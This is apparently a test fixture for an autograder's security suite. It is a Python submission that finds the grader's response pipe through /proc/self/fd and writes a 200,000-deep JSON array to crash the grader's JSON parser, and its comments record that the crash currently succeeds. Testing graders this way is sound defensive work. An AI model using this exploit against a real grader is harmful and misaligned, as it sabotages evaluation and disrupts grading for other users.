# attack: at import, write one 200000-deep JSON array straight onto the response pipe, so the grader's reader (json.loads) raises RecursionError
# must hold: grade exits 0 with a results.json that zeroes only this submission; Gradescope writes a results.json; a batch classmate is graded normally
# result today: BROKEN (RecursionError escapes engine.grade: `autograder grade` dies with a traceback, exit 1, no results.json)
# (The test appends the reference solution below this block, so the file is a complete submission.)
import fcntl as _fcntl
import os as _os
import stat as _stat


def _response_fd():
    """The worker's answer pipe: the only write-only pipe besides stdout and stderr."""
    for name in _os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd in (0, 1, 2):
            continue
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode) and _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY:
                return fd
        except OSError:
            continue
    raise RuntimeError("no response pipe")


_fd = _response_fd()
_line = b"[" * 200_000 + b"]" * 200_000 + b"\n"
_view = memoryview(_line)
while _view:
    _view = _view[_os.write(_fd, _view):]
print("ATTACK deep-json written to fd", _fd)
